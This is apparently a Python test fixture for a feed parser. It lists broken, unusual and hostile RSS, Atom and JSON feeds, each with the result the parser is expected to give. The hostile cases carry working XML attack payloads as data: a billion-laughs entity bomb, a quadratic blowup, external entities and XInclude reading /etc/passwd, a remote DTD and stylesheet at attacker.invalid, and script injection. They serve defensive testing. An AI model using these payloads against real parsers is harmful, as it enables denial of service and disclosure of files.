"""Feeds that are broken, odd or hostile, and what must become of each: so many articles, or one fault with these words."""

# ruff: noqa: E501 -- lines of feeds

from __future__ import annotations

ITEM = "<item><title>Harbour opens</title><link>https://post.example/a</link><guid>a1</guid><description>%s</description></item>"
BODY = "The harbour opened on Friday after a year of repairs."
RSS = '<?xml version="1.0"?><rss version="2.0"><channel><title>Post</title><link>https://post.example/</link>%s</channel></rss>'
ONE = ITEM % BODY
ATOM = '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Post</title>%s</feed>'
ENTRY = "<entry><title>Harbour opens</title><id>a1</id><updated>2019-06-28T10:00:00Z</updated><content type='html'>%s</content></entry>"

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "lol">{LAUGHS}]>' + RSS[21:] % (ITEM % "Before &l9; after the bomb.")
QUADRATIC = f'<!DOCTYPE rss [<!ENTITY a "{"x" * 50_000}">]>' + RSS[21:] % (ITEM % ("Long " + "&a;" * 2_000))
EXTERNAL = '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + RSS[21:] % (ITEM % "See &x; here, please.")
REMOTE = (
    '<!DOCTYPE rss SYSTEM "http://attacker.invalid/x.dtd" [<!ENTITY % p SYSTEM "http://attacker.invalid/p">%p;]>' + RSS[21:] % ONE
)
JSON_ITEM = '{"id": "1", "title": "Harbour opens", "content_text": "The harbour opened on Friday."}'
JSON_FEED = '{"version": "https://jsonfeed.org/version/1.1", "title": "Post", "items": [%s]}'

CASES: dict[str, tuple[str, bytes, int | str]] = {
    # well-formed, but unusual
    "no declaration": ("a.xml", (RSS % ONE)[21:].encode(), 1),
    "spaces before the declaration": ("a.rss", ("\n\n  " + RSS % ONE).encode(), 1),
    "byte order mark": ("a.rss", ("\ufeff" + RSS % ONE).encode(), 1),
    "utf-16": ("a.rss", (RSS % ONE).encode("utf-16"), 1),
    "utf-16 that says utf-8": ("a.atom", (ATOM % (ENTRY % BODY)).encode("utf-16"), 1),
    "utf-8 that says latin-1": ("a.rss", (RSS % (ITEM % "Zürich – café open.")).replace("?>", ' encoding="iso-8859-1"?>').encode(), 1),
    "latin-1 that says utf-8": ("a.atom", (ATOM % (ENTRY % "Zürich, café open.")).encode("latin-1"), 1),
    "windows-1251": ("a.rss", (RSS % (ITEM % "Порт открылся.")).replace("?>", ' encoding="windows-1251"?>').encode("cp1251"), 1),
    "an encoding that is none": ("a.rss", (RSS % ONE).replace("?>", ' encoding="klingon-8"?>').encode(), 1),
    "utf-7": ("a.rss", (RSS % ONE).replace("?>", ' encoding="utf-7"?>').encode(), 1),
    "rss 0.91 with its document type": (
        "a.rss",
        ('<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.invalid/rss-0.91.dtd">'
         + RSS[21:].replace("2.0", "0.91") % ONE).encode(), 1),
    "rdf": (
        "a.xml",
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">'
        b"<channel><title>Post</title></channel><item rdf:about='u'><title>T</title><description>Body text here.</description></item>"
        b"</rdf:RDF>", 1),
    "items outside the channel": ("a.rss", f"<rss version='2.0'><channel><title>P</title></channel>{ONE}</rss>".encode(), 1),
    "no channel": ("a.rss", f"<rss version='2.0'>{ONE}</rss>".encode(), 1),
    "a version that is none": ("a.rss", (RSS % ONE).replace("2.0", "99").encode(), 1),
    "old atom": ("a.atom", (ATOM % (ENTRY % BODY)).replace("http://www.w3.org/2005/Atom", "http://purl.org/atom/ns#").encode(), 1),
    "wrong namespace": ("a.atom", (ATOM % (ENTRY % BODY)).replace("2005/Atom", "1999/None").encode(), 1),
    "prefixed atom": (
        "a.atom",
        b'<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:title>P</a:title><a:entry><a:id>1</a:id><a:title>T</a:title>'
        b"<a:summary>Some text of it.</a:summary></a:entry></a:feed>", 1),
    # broken XML
    "cut off in an item": ("a.rss", (RSS % (ONE + ONE.replace("a1", "a2")))[:-130].encode(), 2),
    "cut off in a tag": ("a.rss", ((RSS % ONE).partition("</item>")[0] + "</it").encode(), 1),
    "tags that are never closed": ("a.rss", (RSS % ONE.replace("</title>", "")).encode(), 1),
    "tags that cross": ("a.rss", (RSS % (ITEM % "<b>bold <i>both</b> italic</i> text of it")).encode(), 1),
    "a bare ampersand": ("a.rss", (RSS % (ITEM % "Fish & chips & tea, said AT&T.")).encode(), 1),
    "a bare less-than sign": ("a.rss", (RSS % (ITEM % "Fewer than 5 < 6 boats came.")).encode(), 1),
    "an entity of HTML": ("a.rss", (RSS % (ITEM % "Caf&eacute;&nbsp;open &mdash; at last.")).encode(), 1),
    "an entity that nobody knows": ("a.rss", (RSS % (ITEM % "A &frobnicate; of text.")).encode(), 1),
    "control characters": ("a.rss", (RSS % (ITEM % "Text \x01\x08 with \x0b controls.")).encode(), 1),
    "a reference to NUL": ("a.rss", (RSS % (ITEM % "Text &#0; and &#x1F; and &#xD800; here.")).encode(), 1),
    "a reference that is too large": ("a.rss", (RSS % (ITEM % "Text &#99999999999; here, all the same.")).encode(), 1),
    "attributes without quotes": ("a.rss", f"<rss version=2.0><channel><title>P</title>{ONE}</channel></rss>".encode(), 1),
    "an attribute twice": ("a.rss", f"<rss version='2.0' version='2.0'><channel><title>P</title>{ONE}</channel></rss>".encode(), 1),
    "a prefix that is never declared": ("a.rss", (RSS % ONE.replace("description", "content:encoded")).encode(), 1),
    "text before and behind": ("a.rss", ("HTTP/1.1 200 OK\n\n" + RSS % ONE + "\n<!-- served in 3 ms --> bye").encode(), 1),
    "two feeds in one file": ("a.rss", (RSS % ONE + (RSS % ONE.replace("a1", "a2"))[21:]).encode(), 2),
    "an open CDATA": ("a.rss", (RSS % (ITEM % "<![CDATA[<p>Text that goes on")).encode(), 1),
    "a CDATA in a CDATA": ("a.rss", (RSS % (ITEM % "<![CDATA[One <![CDATA[two]]> three]]>")).encode(), 1),
    "a comment that is never closed": ("a.rss", (RSS % (ONE + "<!-- and then")).encode(), 1),
    "capital letters": ("a.rss", f"<RSS VERSION='2.0'><CHANNEL><TITLE>P</TITLE>{ONE.upper()}</CHANNEL></RSS>".encode(), 1),
    # missing and odd fields
    "no guid, no link": ("a.rss", (RSS % f"<item><title>T</title><description>{BODY}</description></item>").encode(), 1),
    "no title, no guid, no link": ("a.rss", (RSS % f"<item><description>{BODY}</description></item>").encode(), 1),
    "nothing but a title": ("a.rss", (RSS % "<item><title>Only this</title></item>").encode(), 1),
    "an empty item": ("a.rss", (RSS % "<item/>").encode(), 1),
    "dates that are none": ("a.rss", (RSS % ONE.replace("<guid>", "<pubDate>soon, 99 Foo 2019</pubDate><guid>")).encode(), 1),
    "a link that is no address": ("a.rss", (RSS % ONE.replace("https://post.example/a", "http://[::1/a")).encode(), 1),
    "a link that runs": ("a.rss", (RSS % ONE.replace("https://post.example/a", "javascript:alert(1)")).encode(), 1),
    "a relative link": ("a.rss", (RSS % ONE.replace("https://post.example/a", "/b/c")).encode(), 1),
    "one guid twice": ("a.rss", (RSS % (ONE + ITEM % "Quite another text.")).encode(), 2),
    # hostile
    "a thousand million laughs": ("a.rss", BOMB.encode(), 1),
    "a quadratic bomb": ("a.rss", QUADRATIC.encode(), 1),
    "a file of this machine": ("a.rss", EXTERNAL.encode(), 1),
    "a document type elsewhere": ("a.rss", REMOTE.encode(), 1),
    "a style sheet elsewhere": ("a.rss", (RSS % ONE).replace("?>", '?><?xml-stylesheet href="http://attacker.invalid/x.xsl"?>').encode(), 1),
    "an include": ("a.rss", (RSS % (ONE + '<xi:include href="/etc/passwd" parse="text"/>')).encode(), 1),
    "a huge attribute": ("a.rss", (RSS % ONE).replace("<guid>", f"<guid isPermaLink='{'x' * 1_000_000}'>").encode(), 1),
    "a huge title": ("a.rss", (RSS % ONE.replace("Harbour opens", "word " * 100_000)).encode(), 1),
    "elements inside each other": ("a.rss", (RSS % (ITEM % ("<b>" * 20_000 + BODY))).encode(), 1),
    "escaped elements inside each other": ("a.rss", (RSS % (ITEM % ("&lt;div&gt;" * 20_000 + BODY))).encode(), 1),
    "scripts": ("a.rss", (RSS % (ITEM % "<![CDATA[<script>alert(1)</script><p onclick=x>Text of it.</p>]]>")).encode(), 1),
    "an address as the whole file": ("a.rss", b"http://attacker.invalid/feed.xml", "no feed"),
    "a path as the whole file": ("a.xml", b"/etc/passwd", "no feed"),
    # other things
    "other XML": ("a.xml", b"<urlset><url><loc>https://post.example/</loc></url></urlset>", "urlset"),
    "a web page": ("a.xml", b"<!DOCTYPE html><html><head><title>P</title></head><body><p>Not found</p></body></html>", "<html>"),
    "no entries": ("a.rss", (RSS % "").encode(), "no entries"),
    "nothing": ("a.rss", b"  \n", "empty"),
    "noise": ("a.rss", bytes(range(256)) * 20, "text"),
    "a picture": ("a.rss", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0\1\2\3" * 99, "not a text file"),
    "json in an xml file": ("a.xml", (JSON_FEED % JSON_ITEM).encode(), "no feed"),
    # JSON
    "a comma too many": ("a.json", (JSON_FEED % (JSON_ITEM + ",")).encode(), "column"),
    "cut off": ("a.json", (JSON_FEED % JSON_ITEM)[:-9].encode(), "not valid JSON"),
    "lists inside each other": ("a.json", b"[" * 100_000, "too large"),
    "a number without end": ("a.json", (JSON_FEED % ('{"id": ' + "9" * 10_000 + "}")).encode(), "too large"),
    "items that are none": ("a.json", (JSON_FEED % '1, null, "x"').encode(), "no entries"),
    "items of wrong kinds": ("a.json", (JSON_FEED % '{"id": [1], "title": {"a": 1}, "content_html": 5, "authors": "x", "url": []}').encode(), 1),
    "line feeds in a text": ("a.json", (JSON_FEED % JSON_ITEM.replace("opened", "\n\topened")).encode(), 1),
    "half a pair": ("a.json", (JSON_FEED % JSON_ITEM.replace("opened", "\\ud83d opened")).encode(), 1),
    "settings": ("a.json", b'{"name": "x", "scripts": {}}', "name, scripts"),
}  # fmt: skip
